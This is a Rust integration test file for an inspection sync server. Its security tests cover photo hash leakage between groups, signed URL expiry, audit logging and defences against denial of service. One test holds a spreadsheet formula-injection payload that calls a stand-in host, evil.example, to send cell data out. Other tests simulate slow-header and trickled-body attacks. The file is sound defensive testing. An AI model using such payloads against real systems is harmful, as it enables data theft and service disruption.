//! Attacks and careless clients against photos, ids and audit: each case
//! here was possible once.

use crate::helpers::*;
use serde_json::json;

#[test]
fn a_known_hash_never_grants_another_groups_photo() {
    let app = TestApp::spawn();
    let d = District::new(&app);
    let li = app.login("liming", PASSWORD);
    let cg = app.login("chengang", PASSWORD);
    let bytes = fixture("canon_sx530_IMG_1054.jpg");
    let sha = sha256_hex(&bytes);
    // Group A's photo, with its bytes.
    let (a_insp, a_photo) = (uuid(), uuid());
    let batch = json!({"device_id": uuid(), "batch_id": uuid(),
        "inspections": [new_inspection(&a_insp, &d, json!({"title": "A"}), T0)],
        "photos": [photo_meta(&a_photo, &a_insp, &bytes, "image/jpeg")]});
    app.push_multipart(&li, &batch, &[(a_photo.as_str(), &bytes)])
        .ok(200);

    // An inspector of group B names A's photo (in upper case) in a
    // multipart push, with junk bytes: the answer shows no hash of A's.
    let junk = b"not the photo at all".to_vec();
    let upper = a_photo.to_uppercase();
    let batch = json!({"device_id": uuid(), "batch_id": uuid(), "inspections": [], "photos": []});
    let r = app.push_multipart(&cg, &batch, &[(upper.as_str(), &junk)]);
    assert!(!r.text.contains(&sha), "A's hash leaked: {}", r.text);

    // B pushes a photo of B's own record claiming that hash, with no bytes:
    // it stays missing, and its original is not A's.
    let (b_insp, b_photo) = (uuid(), uuid());
    let mut item = new_inspection(&b_insp, &d, json!({"title": "B"}), T0);
    item["site_id"] = json!(d.site_b);
    let r = app
        .push(
            &cg,
            &uuid(),
            vec![item],
            vec![photo_meta(&b_photo, &b_insp, &bytes, "image/jpeg")],
        )
        .ok(200);
    assert_eq!(r["photos_missing"], json!([b_photo]));
    let (status, _, body) = app.get_bytes(&format!("/api/v1/photos/{b_photo}/original"), &cg, &[]);
    assert_eq!(status, 404);
    assert_ne!(body, bytes);
    let photos = app.pulled_photos(&cg);
    assert_eq!(photos[&b_photo]["status"], "missing");
}

#[test]
fn upper_case_ids_from_a_phone_are_the_same_ids() {
    let app = TestApp::spawn();
    let d = District::new(&app);
    let li = app.login("liming", PASSWORD);
    let bytes = fixture("canon_sx530_IMG_1054.jpg");
    let (insp, photo) = (uuid().to_uppercase(), uuid().to_uppercase());
    let batch = json!({"device_id": uuid().to_uppercase(), "batch_id": uuid().to_uppercase(),
        "inspections": [new_inspection(&insp, &d, json!({"title": "iPhone"}), T0)],
        "photos": [photo_meta(&photo, &insp, &bytes, "image/jpeg")]});
    let r = app
        .push_multipart(&li, &batch, &[(photo.as_str(), &bytes)])
        .ok(200);
    let results = r["results"].as_array().unwrap();
    assert_eq!(results[0]["id"], insp.to_lowercase());
    assert_eq!(results[1]["id"], photo.to_lowercase());
    assert_eq!(results[1]["status"], "applied", "{r}");
    assert_eq!(r["photos_missing"], json!([]));
    assert_eq!(
        app.wait_photo(&li, &photo.to_lowercase())["status"],
        "ready"
    );
}

#[test]
fn signed_urls_die_with_their_record() {
    let app = TestApp::spawn();
    let d = District::new(&app);
    let li = app.login("liming", PASSWORD);
    let bytes = fixture("canon_sx530_IMG_1054.jpg");
    let (insp, photo) = (uuid(), uuid());
    let batch = json!({"device_id": uuid(), "batch_id": uuid(),
        "inspections": [new_inspection(&insp, &d, json!({"title": "x"}), T0)],
        "photos": [photo_meta(&photo, &insp, &bytes, "image/jpeg")]});
    app.push_multipart(&li, &batch, &[(photo.as_str(), &bytes)])
        .ok(200);
    let p = app.wait_photo(&li, &photo);
    let url = p["urls"]["thumb"].as_str().unwrap().to_string();
    let (status, _, _) = app.get_bytes(&url, "", &[]);
    assert_eq!(status, 200);
    app.push(
        &li,
        &uuid(),
        vec![json!({"id": insp, "base_version": 1, "deleted": true})],
        vec![],
    )
    .ok(200);
    let (status, _, _) = app.get_bytes(&url, "", &[]);
    assert_eq!(status, 404);
}

#[test]
fn pushes_by_coordinators_are_audited() {
    let app = TestApp::spawn();
    let d = District::new(&app);
    let li = app.login("liming", PASSWORD);
    let coord = app.login("zhoumin", PASSWORD);
    let id = uuid();
    app.push(
        &li,
        &uuid(),
        vec![new_inspection(&id, &d, json!({"notes": "原始"}), T0)],
        vec![],
    )
    .ok(200);
    app.push(
        &coord,
        &uuid(),
        vec![edit(&id, 1, json!({"notes": "协调员改"}), T0)],
        vec![],
    )
    .ok(200);
    let audit = app
        .get(
            &format!("/api/v1/audit?actor_id={}&limit=500", d.coordinator_a),
            &app.admin,
        )
        .ok(200);
    let push = audit["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["action"] == "sync.push")
        .expect("the coordinator's push is audited");
    assert_eq!(push["details"]["inspections"][0][0], id.as_str());
}

#[test]
fn the_data_directory_is_the_owners_only() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("fresh").join("data");
    let _app = TestApp::start(test_config(&dir));
    let mode = std::fs::metadata(&dir).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o700, "{mode:o}");
}

#[test]
fn a_png_too_large_to_decode_within_the_budget_is_refused_from_its_header() {
    let app = TestApp::spawn();
    let d = District::new(&app);
    let li = app.login("liming", PASSWORD);
    // 5000 x 4100 = 20.5 MP of one colour: a few hundred KB of PNG.
    let img = image::RgbImage::from_pixel(5000, 4100, image::Rgb([40, 90, 60]));
    let mut png = Vec::new();
    img.write_to(&mut std::io::Cursor::new(&mut png), image::ImageFormat::Png)
        .unwrap();
    drop(img);
    let (_, _, r) = app.push_with_photo(&d, &li, &png, "image/png");
    let res = &r["results"][1];
    assert_eq!(res["status"], "rejected", "{res}");
    assert_eq!(res["error"]["code"], "too_many_pixels");
}

#[test]
fn a_failed_photo_is_answered_from_its_status() {
    let app = TestApp::spawn();
    let d = District::new(&app);
    let li = app.login("liming", PASSWORD);
    // A PNG whose header reads but whose data is garbage.
    let mut png = fixture("d-debian.png");
    let n = png.len();
    for b in &mut png[n / 3..n - 12] {
        *b = 0x5a;
    }
    let (_, photo, _) = app.push_with_photo(&d, &li, &png, "image/png");
    let p = app.wait_photo(&li, &photo);
    assert_eq!(p["status"], "failed", "{p}");
    for _ in 0..3 {
        let r = app.get(&format!("/api/v1/photos/{photo}/display"), &li);
        assert_eq!((r.status, r.code()), (422, "photo_failed"));
    }
    let (s, _, body) = app.get_bytes(&format!("/api/v1/photos/{photo}/original"), &li, &[]);
    assert_eq!((s, body), (200, png));
}

#[test]
fn csv_cells_never_run_as_formulas() {
    let app = TestApp::spawn();
    let d = District::new(&app);
    let li = app.login("liming", PASSWORD);
    let coord = app.login("zhoumin", PASSWORD);
    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"详情")"#;
    app.push(
        &li,
        &uuid(),
        vec![new_inspection(
            &uuid(),
            &d,
            json!({"title": evil, "notes": "+1-555", "severity": "high"}),
            T0,
        )],
        vec![],
    )
    .ok(200);
    let (s, _, body) = app.get_bytes("/api/v1/reports/inspections.csv", &coord, &[]);
    assert_eq!(s, 200);
    let text = String::from_utf8(body).unwrap();
    let mut rd = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let row = rd.records().next().unwrap().unwrap();
    assert_eq!(&row[4], format!("'{evil}"));
    assert_eq!(&row[15], "'+1-555");
    assert_eq!(&row[5], "high");
}

#[test]
fn reports_stream_at_any_size_and_take_dates() {
    let app = TestApp::spawn();
    let d = District::new(&app);
    let coord = app.login("zhoumin", PASSWORD);
    // Years of records: 50,000 written straight into the database.
    let (g, u, s, t) = (&d.group_a, &d.inspector_a, &d.site_a, &d.template);
    app.sql(&if on_postgres() {
        format!(
            "INSERT INTO inspections (id, version, group_id, inspector_id, site_id, template_id,
                 template_version, deleted, fields, field_meta, status, review_status, created_at, updated_at)
             SELECT format('00000000-0000-4000-8000-%s', lpad(i::text, 12, '0')), 1, '{g}', '{u}', '{s}',
                 '{t}', 1, false, '{{\"title\":\"排口' || i || '\"}}', '{{}}', 'draft', 'pending',
                 TIMESTAMP '2025-01-01' + (i % 700) * INTERVAL '1 day', now() AT TIME ZONE 'UTC'
             FROM generate_series(1, 50000) AS i;"
        )
    } else {
        format!(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 50000)
             INSERT INTO inspections (id, version, group_id, inspector_id, site_id, template_id,
                 template_version, deleted, fields, field_meta, status, review_status, created_at, updated_at)
             SELECT printf('00000000-0000-4000-8000-%012d', i), 1, '{g}', '{u}', '{s}', '{t}', 1, 0,
                 '{{\"title\":\"排口' || i || '\"}}', '{{}}', 'draft', 'pending',
                 datetime('2025-01-01', '+' || (i % 700) || ' days'), datetime('now')
             FROM n;"
        )
    });
    let (s, hs, body) = app.get_bytes("/api/v1/reports/inspections.csv", &coord, &[]);
    assert_eq!(s, 200);
    assert!(
        !hs.iter()
            .any(|(k, _)| k.eq_ignore_ascii_case("content-length")),
        "streamed"
    );
    let lines = body.iter().filter(|b| **b == b'\n').count();
    assert_eq!(lines, 50_001, "a header and every record");
    let (s, _, body) = app.get_bytes("/api/v1/reports/inspections.geojson", &coord, &[]);
    assert_eq!(s, 200);
    let geo: serde_json::Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(geo["features"].as_array().unwrap().len(), 50_000);

    // Dates: whole days in the district's time zone.
    let r = app.get("/api/v1/reports/ledger?from=2026-01-01", &coord);
    assert_eq!(r.status, 200, "{}", r.text);
    let r = app.get(
        "/api/v1/reports/ledger?from=2025-01-01&to=2025-01-01",
        &coord,
    );
    assert_eq!(r.status, 200, "{}", r.text);
    let r = app.get(
        "/api/v1/inspections?from=2025-01-02&to=2025-01-02&limit=500",
        &coord,
    );
    assert_eq!(r.status, 200, "{}", r.text);
    assert!(!r.body["items"].as_array().unwrap().is_empty());
    let r = app.get("/api/v1/reports/ledger?from=yesterday", &coord);
    assert_eq!(r.status, 400, "{}", r.text);
}

#[test]
fn a_multipart_push_of_countless_empty_parts_is_refused_early() {
    let app = TestApp::spawn();
    District::new(&app);
    let li = app.login("liming", PASSWORD);
    let batch = json!({"device_id": uuid(), "batch_id": uuid(), "inspections": [], "photos": []});
    let ids: Vec<String> = (0..5000).map(|_| uuid()).collect();
    let parts: Vec<(&str, &[u8])> = ids.iter().map(|id| (id.as_str(), &b""[..])).collect();
    let r = app.push_multipart(&li, &batch, &parts);
    assert_eq!(
        (r.status, r.code()),
        (413, "payload_too_large"),
        "{}",
        r.text
    );
    let spool: Vec<_> = std::fs::read_dir(app.staging_dir())
        .map(|d| d.flatten().collect())
        .unwrap_or_default();
    assert!(spool.is_empty(), "temporary files left: {}", spool.len());
}

#[test]
fn auth_bodies_are_small() {
    let app = TestApp::spawn();
    let big = "x".repeat(64 * 1024);
    let r = app.post(
        "/api/v1/auth/login",
        "",
        &json!({"username": "admin", "password": big}),
    );
    assert_eq!((r.status, r.code()), (413, "payload_too_large"));
    let r = app.post("/api/v1/auth/refresh", "", &json!({"refresh_token": big}));
    assert_eq!(r.status, 413);
}

#[test]
fn invented_methods_share_one_metrics_label() {
    let app = TestApp::spawn();
    for m in ["FOO", "BAR", "BAZ"] {
        let mut s = std::net::TcpStream::connect(app.base.trim_start_matches("http://")).unwrap();
        use std::io::{Read, Write};
        write!(
            s,
            "{m} /api/v1/groups HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        )
        .unwrap();
        let mut out = String::new();
        let _ = s.read_to_string(&mut out);
    }
    let metrics = app.get("/metrics", "").text;
    assert!(!metrics.contains("method=\"FOO\""), "{metrics}");
    assert!(metrics.contains("method=\"other\""), "{metrics}");
}

#[test]
fn slow_heads_and_trickled_bodies_time_out() {
    use std::io::Write;
    let app = TestApp::spawn_with(|c| {
        c.header_timeout_secs = 1;
        c.body_idle_secs = 1;
        c.body_grace_secs = 2;
    });
    let addr = app.base.trim_start_matches("http://").to_string();
    // A head that never ends.
    let started = std::time::Instant::now();
    let mut s = std::net::TcpStream::connect(&addr).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .unwrap();
    s.write_all(b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\n")
        .unwrap();
    let _ = head_of_answer(&mut s);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    // A body that stalls after its first byte.
    let started = std::time::Instant::now();
    let mut s = std::net::TcpStream::connect(&addr).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .unwrap();
    s.write_all(b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{").unwrap();
    let out = head_of_answer(&mut s);
    assert!(out.starts_with("HTTP/1.1 408"), "{out}");
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
    // The same for a sync push, whose body is read by hand (it may come
    // gzip-compressed): 408, which the phone retries, not a 400.
    let token = app.login("admin", ADMIN_PASSWORD);
    let mut s = std::net::TcpStream::connect(&addr).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .unwrap();
    s.write_all(format!("POST /api/v1/sync/push HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{{").as_bytes()).unwrap();
    let out = head_of_answer(&mut s);
    assert!(out.starts_with("HTTP/1.1 408"), "{out}");
    // A body that comes a byte at a time, each within the idle time, but
    // far below the rate after the grace time.
    let started = std::time::Instant::now();
    let mut s = std::net::TcpStream::connect(&addr).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .unwrap();
    s.write_all(b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n").unwrap();
    let mut cut = false;
    for _ in 0..20 {
        std::thread::sleep(std::time::Duration::from_millis(400));
        if s.write_all(b" ").is_err() {
            cut = true;
            break;
        }
    }
    let out = head_of_answer(&mut s);
    assert!(cut || out.starts_with("HTTP/1.1 408"), "{out}");
    assert!(started.elapsed() < std::time::Duration::from_secs(9));
}

/// What the server answered, up to the end of its head (or the close).
fn head_of_answer(s: &mut std::net::TcpStream) -> String {
    use std::io::Read;
    let mut out = Vec::new();
    let mut buf = [0u8; 1024];
    while !out.windows(4).any(|w| w == b"\r\n\r\n") {
        match s.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => out.extend_from_slice(&buf[..n]),
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

#[test]
fn a_flood_of_variant_requests_decodes_each_photo_once() {
    let app = std::sync::Arc::new(TestApp::spawn_with(|c| {
        c.photo_workers = Some(1);
        c.workers = Some(4);
    }));
    let d = District::new(&app);
    let li = app.login("liming", PASSWORD);
    let base = fixture("canon_sx530_IMG_1054.jpg");
    let photos: Vec<String> = (0..3u8)
        .map(|k| {
            // Distinct bytes: a byte after the image's end.
            let mut bytes = base.clone();
            bytes.push(k);
            app.push_with_photo(&d, &li, &bytes, "image/jpeg").1
        })
        .collect();
    let handles: Vec<_> = (0..24)
        .map(|i| {
            let (app, li, photo) = (
                std::sync::Arc::clone(&app),
                li.clone(),
                photos[i % 3].clone(),
            );
            std::thread::spawn(move || {
                app.get_bytes(&format!("/api/v1/photos/{photo}/display"), &li, &[])
                    .0
            })
        })
        .collect();
    for h in handles {
        assert_eq!(h.join().unwrap(), 200);
    }
    for p in &photos {
        assert_eq!(app.wait_photo(&li, p)["status"], "ready");
    }
    let metrics = app.get("/metrics", "").text;
    let decodes = metrics
        .lines()
        .find(|l| l.starts_with("fieldsync_photo_decodes_total"))
        .and_then(|l| l.split_whitespace().nth(1))
        .unwrap_or_default()
        .to_string();
    assert_eq!(decodes, "3", "one decode per photo: {metrics}");
}
